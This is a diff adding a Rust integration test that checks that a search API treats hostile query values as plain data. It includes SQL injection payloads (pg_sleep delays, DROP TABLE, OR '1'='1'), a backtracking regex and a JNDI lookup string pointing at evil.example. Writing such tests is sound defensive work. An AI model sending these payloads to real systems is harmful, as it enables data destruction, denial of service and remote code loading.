@@ -1,6 +1,9 @@
 //! Searches over the API (REC-13): conditions, pages, counts, searches with a name, and what is refused.
 
+use std::time::{Duration, Instant};
+
 use pagurus_harness::world::program::Program;
+use pagurus_scenario::value::percent_encode;
 use serde_json::{Value, json};
 
 use crate::installation::{Installation, LOG, call, with_actions};
@@ -158,4 +161,53 @@ async fn rec_13_a_search_keeps_its_name_and_what_has_no_path_is_refused_with_a_h
     let actions: Vec<&Value> =
         audit["items"].as_array().unwrap().iter().map(|entry| &entry["action"]).collect();
     assert_eq!(actions, ["remove", "save"]);
+}
+
+#[tokio::test]
+async fn rec_13_qlt_9_no_value_of_a_condition_is_read_as_sql_a_path_or_a_pattern() {
+    let engine = filled("rec_13_hostile").await;
+    let values = [
+        "'; SELECT pg_sleep(60); --",
+        "1) OR (SELECT pg_sleep(60)) IS NULL --",
+        "$ ? (@ like_regex \"(a+)+$\")",
+        "\"); DROP TABLE orders; --",
+        "%",
+        "_",
+        "\\",
+        "a-1' OR '1' = '1",
+        "${jndi:ldap://evil.example/}",
+    ];
+    let keys = [
+        "params.customer.id",
+        "params.x' || pg_sleep(60) || '",
+        "vars.\"a\"",
+        "labels.a'b",
+        "attributes.a)--",
+    ];
+    let fields = [
+        "idPrefix",
+        "scenario",
+        "queue",
+        "flow",
+        "class",
+        "transactionId",
+        "source",
+        "text",
+        "scenarioStatus",
+    ];
+    for value in values {
+        let value = percent_encode(value);
+        let queries = keys.map(|key| format!("status=fail&{}={value}", percent_encode(key)));
+        for query in fields.iter().map(|field| format!("{field}={value}")).chain(queries) {
+            for list in ["orders", "counts"] {
+                let begun = Instant::now();
+                let answer = engine.get(&format!("/v1/{list}?{query}")).await.unwrap();
+                assert!([200, 422].contains(&answer.status), "{list}?{query}: {answer:?}");
+                let found = answer.body["items"].as_array().map_or(0, Vec::len);
+                assert_eq!(found, 0, "{list}?{query}: {answer:?}");
+                assert!(begun.elapsed() < Duration::from_secs(10), "{list}?{query}: {:?}", begun.elapsed());
+            }
+        }
+    }
+    assert_eq!(ids(&get(&engine, "/v1/orders?status=fail").await), ["b-1", "a-2", "a-1"], "all are there");
 }
